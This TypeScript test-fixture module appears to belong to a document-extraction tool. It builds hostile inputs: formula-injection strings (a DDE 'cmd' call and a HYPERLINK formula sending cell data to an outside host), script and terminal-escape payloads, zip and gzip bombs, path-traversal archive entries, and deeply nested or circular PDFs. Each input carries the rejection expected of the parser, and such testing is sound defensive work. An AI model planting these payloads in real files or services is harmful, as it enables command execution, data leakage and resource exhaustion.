import { gzipSync } from 'node:zlib';
import { rawPdf, shown, stream } from '../extractors/pdf/raw.ts';
import { generateReport } from '../generate/index.ts';
import { tar, zip } from './archives.ts';

/** A report that has nothing wrong with it. */
export async function goodPage(seed: number): Promise<Uint8Array> {
  return (await generateReport(seed, { medium: 'html', layout: {} })).bytes;
}

/** What a spreadsheet, a browser or a terminal would run if it were let. */
export const CHARGES: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://x.gov.cn/?"&A1,"12")',
  '+1+cmd()',
  '@SUM(1+1)*cmd()',
  '\t=1+1',
  '＝cmd()',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u001b]0;title\u0007',
];

/** A report with charges in its title, its cells and labels of its own. */
export async function chargedPage(): Promise<Uint8Array> {
  const page = Buffer.from(await goodPage(1)).toString('utf8');
  let next = 0;
  // Every other number of the tables, until each charge is in.
  const cells = page.replace(/(?<=<td[^>]*>(?:<p[^>]*>)?)\d+(?=<)/g, (number) => {
    next += 1;
    return next % 2 === 1 ? (CHARGES[(next - 1) / 2] ?? number) : number;
  });
  return Buffer.from(cells.replace(/年度报告/g, (words) => `${words}=cmd()`));
}

/** Bytes that look like chance, the same each time. */
function rubbish(length: number): Buffer {
  let state = 1;
  const next = () => {
    state = (state * 48271) % 2147483647;
    return state & 255;
  };
  return Buffer.from(Array.from({ length }, next));
}

/** A PDF whose one page is a picture in a format, of rubbish. */
export function picturePdf(filter: string, size: number): Uint8Array {
  const entries = `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /BitsPerComponent 1 /ColorSpace /DeviceGray`;
  const picture = stream(`${entries} /Filter /${filter}`, rubbish(5000).toString('latin1'));
  return rawPdf({
    content: 'q 400 0 0 400 0 0 cm /X1 Do Q',
    resources: '/XObject << /X1 6 0 R >>',
    objects: [picture],
  });
}

/** A PDF whose tree of pages goes down without end, each node in the next. */
export function deepTree(depth: number): Uint8Array {
  const nodes = Array.from({ length: depth }, (_, at) => `<< /Type /Pages /Kids [${at + 7} 0 R] /Count 1 >>`);
  return altered(rawPdf({ content: shown('12'), objects: nodes }), '/Kids [3 0 R]', '/Kids [6 0 R]');
}

export function altered(bytes: Uint8Array, part: string, by: string): Uint8Array {
  return Buffer.from(Buffer.from(bytes).toString('latin1').replace(part, by), 'latin1');
}

const MANY = 100_000;
const UNPACKED = 210 * 2 ** 20;

/** Files made to do harm, each with the problem that is to be told of it; `read` where it gives a report. */
export async function hostileFiles(entries: number): Promise<Readonly<Record<string, readonly [Uint8Array, string]>>> {
  const plain = rawPdf({ content: shown('12') });
  const good = await goodPage(2);
  const zeros = gzipSync(Buffer.alloc(UNPACKED), { level: 1 });
  return {
    'bomb.html.gz': [zeros, 'too-large'],
    'bomb.zip': [zip([{ name: 'a.html', data: Buffer.alloc(UNPACKED) }]), 'too-large'],
    'climbing.zip': [zip([{ name: '../../../climbed.html', data: good }]), 'read'],
    'absolute.tar': [tar([{ name: '/tmp/ogi-absolute.html', data: good }]), 'read'],
    'many.tar': [Buffer.concat([...repeated(tar([{ name: 'x.html', data: '' }]).subarray(0, 512), entries)]), 'empty'],
    'deep.html': [Buffer.from('<div>'.repeat(MANY)), 'damaged'],
    'cells.html': [Buffer.from(`<table>${'<td>1'.repeat(10 * MANY)}`), 'too-large'],
    'larger.html': [Buffer.alloc(50 * 2 ** 20, '<td>1'), 'too-large'],
    'spans.html': [
      Buffer.from(`<table>${'<tr><td colspan=1000000000 rowspan=1000000000>1'.repeat(1000)}`),
      'too-large',
    ],
    'circle.pdf': [altered(plain, '/Kids [3 0 R]', '/Kids [2 0 R]'), 'damaged'],
    'tree.pdf': [deepTree(MANY), 'damaged'],
    'paths.pdf': [rawPdf({ content: `${shown('12')}${'10 10 m 20 20 l S\n'.repeat(MANY)}` }), 'read'],
    'jbig2.pdf': [picturePdf('JBIG2Decode', 2000), 'unsupported-format'],
    'jpx.pdf': [picturePdf('JPXDecode', 2000), 'unsupported-format'],
    'dct.pdf': [picturePdf('DCTDecode', 2000), 'unsupported-format'],
    'rubbish.pdf': [Buffer.concat([Buffer.from('%PDF-1.7\n'), rubbish(50_000)]), 'damaged'],
    'rubbish.png': [Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), rubbish(50_000)]), 'damaged'],
    'nul.html': [Buffer.alloc(MANY), 'unsupported-format'],
    'nul.pdf': [Buffer.alloc(MANY), 'unsupported-format'],
    'nul-inside.html': [Buffer.from(`<html><p>${'政府\0信息'.repeat(1000)}`), 'unsupported-format'],
    '=cmd().html': [await chargedPage(), 'read'],
  };
}

function* repeated(bytes: Buffer, times: number): Generator<Buffer> {
  for (let time = 0; time < times; time += 1) yield bytes;
}
